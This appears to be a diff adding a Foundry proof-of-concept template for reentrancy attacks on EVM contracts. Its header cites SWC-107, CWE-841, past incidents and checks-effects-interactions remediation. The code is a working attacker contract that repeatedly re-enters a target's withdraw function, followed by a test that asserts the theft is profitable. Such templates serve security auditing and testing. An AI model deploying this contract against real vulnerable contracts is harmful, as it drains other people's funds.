@@ -0,0 +1,108 @@
+// ---
+// name: Reentrancy Attack
+// description: Template for classic reentrancy attacks
+// vulnerability_type: reentrancy
+// class: reentrant-state-inconsistency
+// chain: evm
+// severity: high
+// cwe: [CWE-841]
+// swc: [SWC-107]
+// remediation: "Follow checks-effects-interactions (update balances before the external call) and
+//   guard state-changing entry points with a reentrancy lock such as OpenZeppelin
+//   ReentrancyGuard."
+// tags: [CEI, external-call, foundry]
+// context:
+//   TARGET_CONTRACT: Contract under test
+//   ATTACK_AMOUNT: Wei deposited and re-withdrawn
+// references:
+//   - https://swcregistry.io/docs/SWC-107
+// incidents: [the-dao-2016, cream-amp-2021, fei-rari-2022]
+// ---
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+import "forge-std/Test.sol";
+
+interface ITarget {
+    function deposit() external payable;
+    function withdraw() external;
+    function balanceOf(address) external view returns (uint256);
+}
+
+contract ReentrancyAttack {
+    ITarget public target;
+    address public owner;
+    uint256 public attackCount;
+
+    constructor(address _target) {
+        target = ITarget(_target);
+        owner = msg.sender;
+    }
+
+    function attack() external payable {
+        require(msg.value >= {{ATTACK_AMOUNT}}, "Need ETH");
+        target.deposit{value: msg.value}();
+        target.withdraw();
+    }
+
+    receive() external payable {
+        if (address(target).balance >= {{ATTACK_AMOUNT}} && attackCount < 10) {
+            attackCount++;
+            target.withdraw();
+        }
+    }
+
+    function withdraw() external {
+        require(msg.sender == owner);
+        payable(owner).transfer(address(this).balance);
+    }
+}
+
+contract ReentrancyPoCTest is Test {
+    ITarget target;
+    ReentrancyAttack attacker;
+
+    address victim = makeAddr("victim");
+    address attackerEOA = makeAddr("attacker");
+
+    function setUp() public {
+        // Deploy target contract
+        // target = ITarget(address(new {{TARGET_CONTRACT}}()));
+
+        // Fund victim
+        vm.deal(victim, 10 ether);
+        vm.prank(victim);
+        target.deposit{value: 10 ether}();
+
+        // Deploy attacker contract
+        vm.prank(attackerEOA);
+        attacker = new ReentrancyAttack(address(target));
+        vm.deal(attackerEOA, 1 ether);
+    }
+
+    function testReentrancyAttack() public {
+        uint256 targetBalanceBefore = address(target).balance;
+        uint256 attackerBalanceBefore = attackerEOA.balance;
+
+        console.log("Target balance before:", targetBalanceBefore);
+        console.log("Attacker balance before:", attackerBalanceBefore);
+
+        // Execute attack
+        vm.prank(attackerEOA);
+        attacker.attack{value: 1 ether}();
+
+        // Withdraw stolen funds
+        vm.prank(attackerEOA);
+        attacker.withdraw();
+
+        uint256 targetBalanceAfter = address(target).balance;
+        uint256 attackerBalanceAfter = attackerEOA.balance;
+
+        console.log("Target balance after:", targetBalanceAfter);
+        console.log("Attacker balance after:", attackerBalanceAfter);
+
+        // Attacker should have profited
+        assertGt(attackerBalanceAfter, attackerBalanceBefore, "Attack should be profitable");
+        assertLt(targetBalanceAfter, targetBalanceBefore, "Target should have lost funds");
+    }
+}